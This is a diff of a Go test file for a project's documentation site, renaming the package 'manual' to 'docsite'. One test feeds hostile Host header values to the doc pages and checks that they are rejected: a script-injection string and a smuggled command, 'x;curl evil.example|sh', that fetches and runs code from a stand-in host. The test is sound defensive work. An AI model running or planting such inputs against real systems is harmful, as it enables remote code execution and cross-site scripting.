@@ -1,4 +1,4 @@
-package manual_test
+package docsite_test
 
 import (
 	"io"
@@ -13,15 +13,15 @@ import (
 	"golang.org/x/net/html"
 
 	"github.com/opencapi/capi/internal/api"
+	"github.com/opencapi/capi/internal/docsite"
 	"github.com/opencapi/capi/internal/fault"
-	"github.com/opencapi/capi/internal/manual"
 )
 
 // site is the documentation without the rest of the server.
 func site(t *testing.T, publicURL string) http.Handler {
 	t.Helper()
 	mux := http.NewServeMux()
-	for pattern, h := range manual.Mounts(manual.Deps{OpenAPI: api.OpenAPI, Status: api.Status, PublicURL: publicURL}) {
+	for pattern, h := range docsite.Mounts(docsite.Deps{OpenAPI: api.OpenAPI, Status: api.Status, PublicURL: publicURL}) {
 		mux.Handle(pattern, h)
 	}
 	return mux
@@ -179,8 +179,8 @@ func TestPagesNameTheReadersOwnServer(t *testing.T) {
 	for host, want := range map[string]string{
 		"capi.internal:8080":           "http://capi.internal:8080/api/v1/companies/search",
 		"[::1]:8080":                   "http://[::1]:8080/api/v1/companies/search",
-		`x"><script>alert(1)</script>`: manual.Host + "/api/v1/companies/search",
-		"x;curl evil.example|sh":       manual.Host + "/api/v1/companies/search",
+		`x"><script>alert(1)</script>`: docsite.Host + "/api/v1/companies/search",
+		"x;curl evil.example|sh":       docsite.Host + "/api/v1/companies/search",
 	} {
 		for _, path := range []string{"/docs/quickstart", "/docs/quickstart.md", "/llms-full.txt"} {
 			r := httptest.NewRequestWithContext(t.Context(), http.MethodGet, path, nil)
@@ -245,7 +245,7 @@ func TestAPageThatHasNotChangedIsNotSentAgain(t *testing.T) {
 func TestAnOperationWithoutASampleOrAPageWithAFaultIsAnError(t *testing.T) {
 	t.Parallel()
 	for _, document := range []string{`{`, `{}`, `{"servers":[{"url":"/api/v1"}],"paths":{"/x":{"get":{}}}}`} {
-		_, err := manual.New(manual.Deps{OpenAPI: func() []byte { return []byte(document) }, Status: api.Status})
+		_, err := docsite.New(docsite.Deps{OpenAPI: func() []byte { return []byte(document) }, Status: api.Status})
 		require.Error(t, err, document)
 	}
 }
